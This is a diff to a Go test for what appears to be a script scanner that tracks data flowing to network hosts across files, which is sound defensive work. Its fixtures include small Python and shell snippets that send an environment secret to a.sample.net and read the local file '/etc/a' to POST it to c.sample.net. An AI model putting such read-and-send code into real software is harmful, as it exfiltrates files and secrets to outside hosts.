@@ -264,11 +264,18 @@ func TestPythonFlow(t *testing.T) {
 func TestImports(t *testing.T) {
 	needPython(t)
 	r, err := Scan(t.Context(), tree("scripts/a.py", "from util import fetch\nimport os\nfetch('https://a.sample.net', os.environ['KEY'])", "scripts/util.py", "import requests\ndef fetch(u, k):\n    requests.get(u, params=k)",
+		"scripts/c.py", "from reader import Reader\nimport sender\nsender.Sender().send(Reader().read())", "scripts/reader.py", "class Reader:\n    P = '/etc/a'\n    def read(self):\n        return open(self.P).read()",
+		"scripts/sender.py", "import requests\nclass Sender:\n    U = 'https://c.sample.net'\n    def send(self, x):\n        requests.post(self.U, data=x)",
 		"b.sh", "source ./lib.sh\ncurl $URL", "lib.sh", "URL=https://b.sample.net"), &Options{Python: runPython3})
 	if err != nil {
 		t.Fatal(err)
 	}
-	for _, host := range []string{"a.sample.net", "b.sample.net"} {
+	for i := range r.Facts { // a method of another file does what it does there
+		if f := &r.Facts[i]; f.Name == "c.sample.net" && (f.Place.File != "scripts/sender.py" || f.Place.Line != 5 || !slices.ContainsFunc(f.From, func(n int) bool { return r.Facts[n].Name == "/etc/a" })) {
+			t.Errorf("got %+v of %+v", f, r.Facts)
+		}
+	}
+	for _, host := range []string{"a.sample.net", "b.sample.net", "c.sample.net"} {
 		if !slices.ContainsFunc(r.Sheet().Hosts, func(i Item) bool { return i.Name == host && !i.Perhaps }) {
 			t.Errorf("no %s in %+v", host, r.Facts)
 		}
